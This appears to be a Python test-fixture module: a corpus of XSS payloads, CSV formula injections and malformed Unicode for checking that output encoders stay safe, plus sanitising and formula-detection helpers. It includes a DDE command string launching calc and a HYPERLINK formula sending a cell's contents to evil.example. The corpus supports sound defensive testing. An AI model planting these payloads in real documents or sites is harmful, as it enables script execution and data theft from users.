"""The injection corpus: hostile and awkward strings every encoder and dialect must carry safely."""

from __future__ import annotations

import re

_SURROGATE = re.compile("[\ud800-\udfff]")
_XML_ILLEGAL = re.compile("[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

CORPUS: dict[str, str] = {
    "script_tag": "<script>alert(1)</script>",
    "script_close": "</script><script>alert(document.domain)</script>",
    "img_onerror": '<img src=x onerror="alert(1)">',
    "svg_onload": "<svg/onload=alert(1)>",
    "attr_breakout": '" onmouseover="alert(1)" x="',
    "javascript_url": "javascript:alert(1)",
    "link_javascript": '<a href="javascript:alert(1)">click</a>',
    "html_comment": "<!-- x --><!--",
    "entity": "&lt;b&gt; &amp; &#60;script&#62;",
    "formula_cmd": "=cmd|' /C calc'!A0",
    "formula_plus": "+1",
    "formula_minus": "-2+3",
    "formula_at": "@SUM(1)",
    "formula_hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "formula_tab": "\t=1+1",
    "formula_cr": "\r=1+1",
    "negative_number": "-12.5",
    "quotes": "'\"",
    "quoted_csv": 'a,"b",c\r\nd',
    "backslashes": '\\ \\\\ \\u0041 \\" \\n',
    "json_breakout": '"}]);alert(1);//',
    "php_breakout": 's:1:"a";}i:0;N;',
    "controls": "".join(chr(c) for c in range(32)),
    "nul_only": "\x00",
    "line_separators": "a\u2028b\u2029c",
    "lone_surrogate": "x\ud800y",
    "cdata_end": "]]>",
    "xml_pi": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "e">]>&e;',
    "emoji": "😀 👍🏽 👨‍👩‍👧",
    "cjk": "北京 東京 서울",
    "rtl": "\u202eשלום مرحبا\u202c",
    "nonchars": "a\ufffeb\uffffc",
    "long": "<script>" * 12_500,
    "long_plain": "é" * 100_000,
    "empty": "",
}


def utf8_text(text: str) -> str:
    """What survives UTF-8: lone surrogates become U+FFFD."""
    return _SURROGATE.sub("\ufffd", text)


def xml_text(text: str) -> str:
    """What survives XML 1.0: characters it cannot carry are removed."""
    return _XML_ILLEGAL.sub("", text)


def is_live_formula(cell: str) -> bool:
    """A cell a spreadsheet would run: starts with a formula character and is not a number."""
    if not cell.startswith(FORMULA_STARTS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return cell.startswith(("+", "\t", "\r"))
